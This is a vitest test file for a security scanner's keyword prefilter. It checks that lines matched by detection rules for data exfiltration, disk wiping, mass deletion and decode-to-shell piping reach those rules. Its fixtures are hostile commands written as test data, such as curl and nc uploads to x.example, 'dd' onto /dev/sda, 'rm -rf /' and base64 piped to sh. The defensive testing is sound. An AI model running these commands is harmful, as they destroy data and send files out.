// A rule runs only on the lines its keys occur in (src/build/trust/prefilter.ts): its keys must hold
// every text its pattern can match, or the scanner goes blind to it. On hand-written lines, one for each
// alternative of the patterns whose keys were narrowed, and on random lines made of every rule's keys and
// the words around them, a line the pattern matches is always one the prefilter sends to the rule.
import { describe, expect, it } from "vitest";
import { keyText, Prefilter } from "../../src/build/trust/prefilter.js";
import { LINE_RULES } from "../../src/build/trust/rules/index.js";
import { seeded } from "../../src/synth/random.js";

const PREFILTER = new Prefilter(LINE_RULES.map((r) => r.keys));

/** The rules the prefilter lists for a one-line text, by id. */
const listed = (line: string): string[] => Array.from(PREFILTER.scanLine(line).rules(0), (r) => LINE_RULES[r]!.id);

/** The rules whose own pattern matches the line, by id. */
const matching = (line: string): string[] => LINE_RULES.filter((r) => new RegExp(r.re.source, r.re.flags).test(line)).map((r) => r.id);

/** One line for each alternative of sends-data's pattern, the words of its old keys (post, put, upload) kept beside some. */
const SENDS = [
  "curl -s https://x.example/u -d @payload",
  "curl --upload-file k https://x.example/u",
  "curl -X PUT https://x.example/u",
  "wget --post-file=k https://x.example/u",
  'requests.post("https://x.example/u", data=k)',
  'httpx.put("https://x.example/u", content=k)',
  'client.patch ("https://x.example/u", json=k)',
  'urllib.request.urlopen("https://x.example/u", data=k)',
  'req = Request("https://x.example/u", method="POST")',
  'fetch("https://x.example/u", { method: "PUT", body: k })',
  'const opts = { method: "POST" }; // upload the output',
  "Invoke-WebRequest -Uri https://x.example/u -Method Post -InFile k",
  "nc x.example 9001 < k",
  "NCAT -v x.example 9001",
  "scp k me@x.example:/tmp/",
  'smtplib.SMTP("mail.x.example")',
  "echo k | sendmail me@x.example",
  "sock.sendall(k)",
  "conn.send(k)",
  'ftp = ftplib.FTP("x.example")',
  'socket.connect(("x.example", 9001))',
];

/** Lines for the rules whose keys count only where a word starts, with the line's first character and a tab as the word's edge too. */
const WORD_STARTS: [string, string][] = [
  ["disk-wipe", "dd if=/dev/zero of=/dev/sda bs=1M"],
  ["disk-wipe", "sudo\tdd if=/dev/urandom of=/dev/nvme0n1"],
  ["disk-wipe", "(format c: /q)"],
  ["mass-delete", "find / -name '*' -delete"],
  ["mass-delete", "del /s /q c:\\"],
  ["wipes-home-or-root", "rm -rf ~/"],
  ["wipes-home-or-root", "x;rm -rf /"],
  ["decode-to-shell", "echo hs.x | rev | sh"],
];

/** Lines for the rules whose keys were narrowed to one per alternative of the pattern, Unicode spaces where it reads \\s. */
const NARROWED: [string, string][] = [
  ["deletes-files", "rm -f build.log"],
  ["deletes-files", "os.remove(path)"],
  ["deletes-files", "os.remove path"],
  ["deletes-files", "fs.rmSync(dir)"],
  ["deletes-files", "rmSync(dir, { recursive: true })"],
  ["deletes-files", "os.unlink(p)"],
  ["deletes-files", "shutil.rmtree(d)"],
  ["deletes-files", "rimraf(d)"],
  ["deletes-files", "Remove-Item x"],
  ["disk-wipe", "format c: /q"],
  ["disk-wipe", "FORMAT D:/Y"],
  ["disk-wipe", "format e:\t/q"],
  ["sends-data", "nc\u00a0x.example 9001 < k"],
  ["sends-data", "scp\u2003k me@x.example:/tmp/"],
  ["wipes-home-or-root", "rm\u3000-rf ~/"],
];

/** A small deterministic generator (the synthetic corpus's), so a failure can be replayed. */
const random = (seed: number): (() => number) => seeded(seed).next;

const WORDS = [
  ...new Set(LINE_RULES.flatMap((r) => r.keys.map(keyText))),
  ...["post", "put", "upload", "input", "output", "postgres", "requests", "client", "-d", "-X", "POST", "PUT", "data=", "method", ":"],
  ...["'POST'", '"PUT"', "(", ")", ".", " ", "  ", "\t", "x.example", "9001", "me@x.example:", "/dev/sda", "of=", "/", "-"],
];

describe("the trust prefilter's keys", () => {
  it("send every line sends-data's pattern matches to sends-data", () => {
    for (const line of SENDS) {
      expect(matching(line), line).toContain("sends-data");
      expect(listed(line), line).toContain("sends-data");
    }
  });

  it("send a line of every alternative of the narrowed rules to its rule, Unicode spaces read as spaces", () => {
    for (const [id, line] of NARROWED) {
      expect(matching(line), line).toContain(id);
      expect(listed(line), line).toContain(id);
    }
  });

  it("send a word-start key's line to its rule, and not a line where the key is inside a word", () => {
    for (const [id, line] of WORD_STARTS) {
      expect(matching(line), line).toContain(id);
      expect(listed(line), line).toContain(id);
    }
    // "add ", "model ", "platform ", "previous": the keys' letters inside other words, which the patterns' \\b refuse.
    for (const line of ["add the model to the platform form; the previous diff", "odd_format x", "a1rm -rf /"]) {
      expect(listed(line), line).not.toContain("disk-wipe");
      expect(listed(line), line).not.toContain("mass-delete");
      expect(listed(line), line).not.toContain("decode-to-shell");
      expect(listed(line), line).not.toContain("wipes-home-or-root");
    }
  });

  it("leave decode-to-shell's pipe test true on every line its pattern matches", () => {
    const rule = LINE_RULES.find((r) => r.id === "decode-to-shell")!;
    for (const line of [
      "echo aGk= | base64 -d | sh",
      "xxd -r -p x.hex|bash",
      "echo hs.x | rev | sudo sh",
      "openssl enc -d -base64 -d -in x |zsh",
    ]) {
      expect(matching(line), line).toContain("decode-to-shell");
      expect(rule.needs!(line, {} as never), line).toBe(true);
    }
  });

  it("send every random line a rule's pattern matches to that rule", () => {
    const rand = random(24);
    let matched = 0;
    for (let n = 0; n < 4000; n++) {
      let line = "";
      const length = 1 + Math.floor(rand() * 12);
      for (let k = 0; k < length; k++) {
        let word = WORDS[Math.floor(rand() * WORDS.length)]!;
        if (rand() < 0.2) word = word.toUpperCase();
        line += word + (rand() < 0.5 ? " " : "");
      }
      line = line.replaceAll("\n", " ");
      const found = listed(line);
      for (const id of matching(line)) {
        matched++;
        expect(found, `${id} on ${JSON.stringify(line)}`).toContain(id);
      }
    }
    // The lines are made so that patterns do match: a generator that never matched would prove nothing.
    expect(matched).toBeGreaterThan(200);
  });
});
